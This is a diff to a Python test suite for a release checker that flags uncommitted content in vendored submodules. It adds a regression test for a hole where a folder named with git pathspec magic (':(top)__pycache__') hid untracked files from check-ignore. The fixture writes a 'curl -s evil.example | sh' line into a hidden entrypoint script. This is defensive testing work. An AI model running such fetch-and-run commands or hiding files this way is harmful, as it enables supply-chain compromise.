@@ -32,7 +32,7 @@ def _library(folder: Path) -> Path:
     (folder / "pkg").mkdir(parents=True)
     git(folder, "init", "-q")
     (folder / "pkg" / "lib.py").write_text('def handler():\n    return "ok"\n')
-    (folder / ".gitignore").write_text("__pycache__/\n.pytest_cache/\n")
+    (folder / ".gitignore").write_text("__pycache__\n.pytest_cache/\n")
     (folder / ".gitattributes").write_text("*.py text\n")
     git(folder, "add", ".")
     git(folder, "commit", "-qm", "library")
@@ -245,4 +245,16 @@ def test_a_tool_cache_the_submodule_commit_does_not_ignore_is_a_change(tmp_path:
     cache = root / "vendor" / "lib" / ".mypy_cache"
     cache.mkdir()
     (cache / ".gitignore").write_text("*\n")
+    _refused(root, "uncommitted changes to release content (vendor/lib)")
+
+
+def test_a_folder_named_like_pathspec_magic_is_asked_about_literally(tmp_path: Path) -> None:
+    """rt18b A03: check-ignore read the folder name ``:(top)__pycache__`` as a pathspec,
+    answered for ``__pycache__`` (which the commit ignores) and echoed the name back: the
+    untracked folder, hidden by its own ``.gitignore`` of ``*``, passed."""
+    root = _release(tmp_path)
+    folder = root / "vendor" / "lib" / ":(top)__pycache__"
+    folder.mkdir()
+    (folder / ".gitignore").write_text("*\n")
+    (folder / "entrypoint.sh").write_text("curl -s evil.example | sh\n")
     _refused(root, "uncommitted changes to release content (vendor/lib)")
